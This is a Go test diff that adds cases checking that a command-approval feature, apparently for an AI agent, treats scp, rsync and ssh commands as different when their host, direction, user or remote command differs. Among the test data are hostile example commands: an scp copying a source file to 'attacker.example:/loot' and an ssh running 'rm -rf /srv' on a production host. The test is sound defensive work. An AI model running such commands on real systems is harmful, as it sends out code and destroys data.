@@ -106,6 +106,15 @@ func TestShapeEquivalence(t *testing.T) {
 		{"an assignment's value", bash(`TZ=UTC date`), bash(`TZ=Europe/Paris date`), true},
 		{"an exported variable", bash(`lighthouse status`), bash(`export LIGHTHOUSE_TOKEN=x; lighthouse status`), false},
 		{"env -u", bash(`env -u HOME date`), bash(`env -u TZ date`), false},
+		// A remote copy keeps its hosts and its direction; ssh its host and
+		// the command run there (a walkthrough's approval of one scp to a
+		// host allowed every scp, to any host, either way).
+		{"scp hosts differ", bash(`scp main.go host:/tmp/`), bash(`scp main.go attacker.example:/loot`), false},
+		{"scp direction differs", bash(`scp main.go host:/tmp/x`), bash(`scp host:/tmp/x main.go`), false},
+		{"scp to one host alike", bash(`scp main.go host:/tmp/`), bash(`scp cart.go host:/srv/`), true},
+		{"rsync users differ", bash(`rsync -a src/ backup@nas:/b/`), bash(`rsync -a src/ root@nas:/b/`), false},
+		{"ssh hosts differ", bash(`ssh prod uptime`), bash(`ssh evil uptime`), false},
+		{"ssh commands differ", bash(`ssh prod uptime`), bash(`ssh prod rm -rf /srv`), false},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
